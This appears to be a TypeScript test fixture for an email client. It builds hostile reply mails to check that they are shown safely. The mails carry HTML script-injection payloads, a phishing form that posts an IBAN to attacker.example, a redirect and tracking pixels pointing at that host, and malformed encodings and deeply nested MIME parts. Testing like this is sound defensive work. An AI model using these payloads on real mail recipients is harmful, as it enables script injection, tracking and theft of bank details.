import { toBase64 } from '../../host/graph/base64';
import { answerHeaders, type Incoming } from '../../host/graph/incoming';
import type { StoredMessage } from '../../host/graph/message';
import { mimeHead } from '../../host/graph/mime/head';

/** Mails by which to try whether they are shown safely, or refused with a sentence. */
export const attacks = ['scripts', 'pictures', 'thread', 'encoding', 'nested'] as const;
export type Attack = (typeof attacks)[number];

const SCRIPTS = [
  '<p onclick="parent.document.title=\'attacked\'">Factuur betaald?</p>',
  '<script>parent.document.title="attacked"</script>',
  '<img src="x" onerror="parent.document.title=\'attacked\'">',
  '<a href="javascript:parent.document.title=\'attacked\'">Bewijs van betaling</a>',
  '<svg onload="parent.document.title=\'attacked\'"><script>1</script></svg>',
  '<form action="https://attacker.example/"><input name="iban"><button>Inloggen</button></form>',
  '<iframe srcdoc="<script>top.document.title=\'attacked\'</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">',
].join('\n');

const PICTURES = [
  '<style>@import url(https://attacker.example/a.css);p{background:url(https://attacker.example/b.png)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://attacker.example/c.png)">U bent gevolgd.</p>',
  '<img src="https://attacker.example/pixel.gif" width="1" height="1">',
  '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/%3E">',
  '<picture><source srcset="https://attacker.example/d.png 2x"></picture><video poster="//attacker.example/e"></video>',
].join('\n');

/** Lines of a thread of years. */
const LINES = 5000;
/** Parts within parts. */
const DEEP = 300;

const thread = (): string =>
  Array.from(
    { length: LINES },
    (_, index) => `${'>'.repeat(index % 40)} Regel ${index + 1} van een lange draad.`,
  ).join('\r\n');

function nested(): string {
  const opened = Array.from(
    { length: DEEP },
    (_, level) => `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n`,
  );
  return `${opened.join('')}Content-Type: text/plain\r\n\r\nHelemaal binnenin.\r\n`;
}

/** The mail as it travels after its headers, as bytes: not all of it is text. */
function bodyOf(attack: Attack): Uint8Array {
  const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
  switch (attack) {
    case 'scripts':
      return bytes(`Content-Type: text/html; charset=utf-8\r\n\r\n${SCRIPTS}`);
    case 'pictures':
      return bytes(`Content-Type: text/html; charset=utf-8\r\n\r\n${PICTURES}`);
    case 'thread':
      return bytes(`Content-Type: text/plain; charset=utf-8\r\n\r\nZie hieronder.\r\n\r\n${thread()}`);
    case 'encoding': {
      const head = bytes(
        'Content-Type: text/plain; charset="x-unknown-9"\r\nContent-Transfer-Encoding: 8bit\r\n\r\nBetaald \u20ac ',
      );
      // No text in any encoding, and a character that is cut off.
      return new Uint8Array([...head, 0xff, 0xfe, 0x00, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf0, 0x9f]);
    }
    case 'nested':
      return bytes(nested());
  }
}

const shown: Readonly<Record<Attack, Pick<Incoming, 'contentType' | 'content'>>> = {
  scripts: { contentType: 'html', content: SCRIPTS },
  pictures: { contentType: 'html', content: PICTURES },
  thread: { contentType: 'text', content: `Zie hieronder.\n\n${thread()}` },
  encoding: { contentType: 'text', content: 'Betaald \u20ac \ufffd\ufffd' },
  nested: { contentType: 'text', content: '' },
};

/** A hostile answer to a mail that was sent. */
export function attackMail(attack: Attack, sent: StoredMessage, now: number): Incoming {
  const from = { name: 'An Claes', address: sent.to[0] ?? '' };
  const subject = `RE: ${sent.subject}`;
  const headers = answerHeaders(sent);
  const head = new TextEncoder().encode(
    mimeHead({ from, to: [sent.from], cc: [], subject, at: now, headers }),
  );
  const mime = toBase64(new Uint8Array([...head, ...bodyOf(attack)]));
  return { from, subject, headers, mime, ...shown[attack] };
}
